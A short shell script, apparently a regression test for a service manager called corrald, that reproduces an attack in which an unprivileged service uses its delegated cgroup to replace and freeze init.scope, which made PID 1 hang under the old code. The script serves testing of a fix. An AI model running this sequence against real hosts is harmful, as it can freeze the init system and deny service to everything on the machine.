#!/bin/sh
# deleg.service's main process, as the unprivileged user svc. The first time: move out of
# init.scope (the delegated cgroup is ours), leave a process aside, replace init.scope by a
# cgroup of our own and freeze it, then die: corrald restarts the unit into init.scope. With the
# old code that clone3 never returned and PID 1 answered nothing more.
CG=/sys/fs/cgroup/system.slice/deleg.service
if [ ! -e /tmp/deleg-attacked ]; then
    : > /tmp/deleg-attacked
    mkdir $CG/aside && echo $$ > $CG/aside/cgroup.procs || echo "attack: moving aside failed"
    /bin/sleep 100000 &
    rmdir $CG/init.scope && mkdir $CG/init.scope || echo "attack: replacing init.scope failed"
    echo 1 > $CG/init.scope/cgroup.freeze || echo "attack: freezing failed"
    echo "attack: init.scope is $(stat -c %U $CG/init.scope/cgroup.freeze)'s, frozen=$(cat $CG/init.scope/cgroup.freeze)" > /tmp/deleg-attack.log
    exit 1
fi
exec /bin/sleep 100000
